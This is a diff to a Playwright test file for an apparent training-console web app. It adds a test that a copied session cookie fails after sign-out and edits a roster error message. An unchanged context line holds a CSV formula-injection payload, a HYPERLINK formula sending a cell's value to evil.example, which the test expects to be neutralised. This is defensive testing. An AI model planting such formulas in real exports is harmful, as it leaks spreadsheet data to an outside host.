@@ -230,7 +230,7 @@ def test_an_administrator_issues_a_code_marks_a_device_lost_and_matches_a_walk_i
     page.get_by_label("Unit the laptop records for").select_option("NORTH")
     page.get_by_label("Laptop of").select_option("training_lead")
     page.get_by_role("button", name="Issue a code").click()
-    expect(page.get_by_role("alert")).to_contain_text("100800 is not on HQ's roster")
+    expect(page.get_by_role("alert")).to_contain_text("100800 is not on the roster of this unit's force")
     page.get_by_label("Trainer's staff number").fill("710001")
     page.get_by_label("Unit the laptop records for").select_option("NORTH")
     page.get_by_label("Laptop of").select_option("training_lead")
@@ -444,3 +444,27 @@ def test_a_chase_list_download_cannot_run_a_formula_in_a_spreadsheet(
         rows = {row[0]: row for row in csv.reader(handle)}
     assert rows["710009"][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click") @SUM(1+1)'
     assert rows["710002"][1] == "Rhys ap Gwilym"  # ordinary names are left as they are
+
+
+def test_signing_out_ends_the_session_even_for_a_copy_of_its_cookie(page: Page, hq: Hq, force: dict[str, str]) -> None:
+    """On a shared PC, someone copies the console's cookie before the lead signs out: once the lead has signed
+    out, the copy neither downloads the chase list nor plans a session."""
+    sign_in(page, hq, "lead.north")
+    [cookie] = [c for c in page.context.cookies() if c["name"] == "trainer_desk_console"]
+    copy = requests.Session()
+    copy.cookies.set(cookie["name"], cookie["value"])
+    chase_list = hq.url + "/console/units/NORTH/outstanding.csv"
+    assert copy.get(chase_list, timeout=10).status_code == 200  # the copy works while the lead is signed in
+    page.get_by_role("link", name="Plan a session").click()
+    token = page.locator("input[name=csrf]").first.get_attribute("value")
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
+
+    answer = copy.get(chase_list, timeout=10, allow_redirects=False)
+    assert answer.status_code == 303 and "/console/sign-in" in answer.headers["location"]
+    assert "Nguyễn" not in answer.text
+    plan = copy.post(hq.url + "/console/plan", data={"venue": "Replay room", "csrf": token}, timeout=10)
+    assert plan.status_code == 401 and "Your session ended before that reached HQ" in plan.text
+
+    sign_in(page, hq, "lead.north")  # signing in again afterwards works as before
+    expect(page.get_by_role("button", name="Sign out")).to_be_visible()
